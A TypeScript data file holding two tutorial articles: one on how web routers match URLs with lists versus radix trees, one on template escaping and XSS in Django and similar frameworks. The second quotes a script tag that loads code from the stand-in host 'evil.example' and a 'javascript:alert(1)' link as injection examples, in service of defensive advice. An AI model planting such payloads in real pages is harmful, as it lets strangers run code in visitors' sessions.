import type { WorldArticle } from '../types.ts';

export const routingArticles: readonly WorldArticle[] = [
  {
    key: 'routing-trees',
    author: 'mira',
    daysAgo: 17,
    title: 'How a router finds your page',
    tags: ['web', 'algorithms', 'performance'],
    body: `A web application with four hundred addresses gets a request for \`/shop/orders/7/items\`. Which
function should run? The question is asked thousands of times a second, and the two families of
frameworks answer it in very different ways.

## The list

The older answer is a list of patterns, tried from the top:

\`\`\`python
ROUTES = [
    (re.compile(r"^/shop/$"), shop),
    (re.compile(r"^/shop/orders/(\\d+)/$"), order),
    (re.compile(r"^/shop/orders/(\\d+)/items$"), order_items),
]

def find(path):
    for pattern, view in ROUTES:
        if match := pattern.match(path):
            return view, match.groups()
    raise NotFound
\`\`\`

Django and Rails began like this. It has a great virtue: you can read it. What comes first wins, and
there is nothing more to know. Its price grows with the list. An address near the end pays for
everything above it, and an address that does not exist pays for all of it, which is why scanners
that look for \`/wp-login.php\` cost such a site more than its customers do.

Django softens the price by nesting. An \`include("shop.urls")\` strips the prefix and hands the rest
to a shorter list, so four hundred patterns become twenty times twenty, and a lookup touches forty
instead of four hundred. Without noticing, the list has started to become a tree.

## The tree

The other answer goes all the way. Write the addresses so that common beginnings are shared:

\`\`\`text
/shop
├── /
└── /orders/
    └── :id
        ├── /
        └── /items
\`\`\`

This is a *radix tree*. To find \`/shop/orders/7/items\` you never look at a pattern that cannot
match: \`/sh…\` leads down one branch, the others do not exist for you. The work depends on the length
of the path and not on the number of routes. A router of this kind, such as find-my-way in Node or
httprouter in Go, answers in well under a microsecond with ten routes or ten thousand.

Here is a small one, good enough to see how it works. It splits at slashes, which real ones do not
need to:

\`\`\`python
class Node:
    def __init__(self):
        self.words = {}        # exact next words
        self.parameter = None  # (name, node) for :name
        self.view = None

def add(root, path, view):
    node = root
    for word in path.strip("/").split("/"):
        if word.startswith(":"):
            node.parameter = node.parameter or (word[1:], Node())
            node = node.parameter[1]
        else:
            node = node.words.setdefault(word, Node())
    node.view = view

def find(node, words, values):
    if not words:
        return (node.view, values) if node.view else None
    first, rest = words[0], words[1:]
    if first in node.words:
        if found := find(node.words[first], rest, values):
            return found
    if node.parameter:
        name, inner = node.parameter
        return find(inner, rest, {**values, name: first})
    return None
\`\`\`

Look at the end of \`find\`: an exact word is tried first, and when that branch turns out to be a dead
end, the walk comes back and tries the parameter. That is *backtracking*, and it makes \`/users/me\`
and \`/users/:name/posts\` live together in peace.

## What you give up

In a tree there is no "first". \`/books/new\` beats \`/books/:id\` because it is *more exact*, wherever
you wrote it. I count this as a gain: two people can add routes in two files without asking who is
loaded earlier. But it also means that some things a list can say, a tree cannot:

- *"Anything that ends in .pdf"*: there is no common beginning to share.
- *"This pattern, but only on Sundays"*: conditions are not part of a path.
- *"Whatever looks like a year"*: possible where the router lets a parameter carry a regular
  expression, and then it is a little list inside a node.

## Does it matter?

Honestly: seldom. A query to the database costs a thousand lookups in either structure. I would not
choose a framework by its router. But the list teaches a habit that stays useful everywhere, and
that is to ask *what does a miss cost?* We measure what happens when we find something. The bill
often comes from what we do not find.`,
  },
  {
    key: 'templates-escape',
    author: 'mira',
    daysAgo: 26,
    title: 'A template is a sentence with holes',
    tags: ['web', 'security', 'django'],
    body: `\`Hello {{ name }}!\` looks like the simplest thing in a web framework. Fill in the hole, done. In
fact the hole is the place where most of the security of the web is decided, and it is worth knowing
what happens in it.

## Text has no type, HTML does

Suppose that somebody registers under the name \`<b>Ann\`. Paste it into the page as it is, and
everything after it is bold. Suppose the name is this:

\`\`\`html
<script src="https://evil.example/x.js"></script>
\`\`\`

Now whoever looks at Ann's profile runs a stranger's program with their own session. Nobody broke
in. The page itself carried it, because a piece of *text* was used where a piece of *HTML* was
expected, and in Python both are just \`str\`.

Good template engines repair this by giving the two different types. In Django a piece of HTML is a
\`SafeString\`, everything else is text, and a hole converts text on its way in:

\`\`\`python
>>> from django.utils.html import escape
>>> escape("<b>Ann")
'&lt;b&gt;Ann'
\`\`\`

The rule is short: *text is escaped when it enters HTML, and never earlier.* If you escape when you
store it, the first place that is not HTML (a mail, a PDF, an API) shows \`&lt;b&gt;\` to a person.
Store what was typed. Convert at the border.

## What a template becomes

Django parses a template once into a list of nodes and then asks each of them for its text:

\`\`\`text
TextNode("Hello ")
VariableNode("name")
TextNode("!")
\`\`\`

A loop is a node with nodes inside; a block is a node that can be replaced. Rendering walks this
tree and joins the pieces. Jinja goes one step further and turns the tree into Python source, which
is why its tracebacks look so real and why it is several times faster.

Inheritance is the part that surprises people, since it runs *inside out*. Your \`detail.html\` says
\`{% extends "base.html" %}\` and defines some blocks. What gets rendered is **the base**, from top to
bottom; wherever it has a block, it looks whether a child brought a better one. Text in the child
that stands outside of every block is not shown at all. It was never part of the sentence.

## Four kinds of holes

Escaping \`<\`, \`>\`, \`&\` and quotes makes a hole safe *between tags* and *inside quoted attributes*.
There are two more places, and there it does not help:

| where | example | is escaping enough? |
|---|---|---|
| between tags | \`<p>{{ x }}</p>\` | yes |
| quoted attribute | \`<a title="{{ x }}">\` | yes |
| an address | \`<a href="{{ x }}">\` | no: \`javascript:alert(1)\` has nothing to escape |
| inside a script | \`<script>let a = "{{ x }}"</script>\` | no: another language with other rules |

For an address, check the scheme against a list of those that you want: \`http\`, \`https\`, \`mailto\`.
Never against a list of those that you fear, as it will be one too short. For data in a script, put
it into a block that is no script, and read it from there:

\`\`\`html
{{ data|json_script:"page-data" }}
<script src="/page.js"></script>
\`\`\`

## The word \`safe\`

In every code base that I have been asked to review, I begin by searching for one word: \`|safe\` in
Django, \`dangerouslySetInnerHTML\` in React, \`v-html\` in Vue, \`raw\` in Rails. Each one is a claim: *I
know that this is HTML and I know who made it.* Sometimes it is true; an article that was rendered
from Markdown with raw HTML switched off is a good example. Often it is what somebody wrote to make
\`&amp;amp;\` go away on a Friday.

1. Find every such word.
2. Ask of each: where does this value come from, *first*?
3. If a person can type it, the claim is false until proven otherwise.

It takes an hour, and it is the best hour of the review.

## One last hole

What does a hole show when there is nothing to put in? Django says: nothing. A misspelt \`{{ nmae }}\`
becomes an empty text without a word of warning. It was meant to be kind to designers. Set
\`string_if_invalid\` to something ugly in your tests, and let the holes complain.`,
  },
];
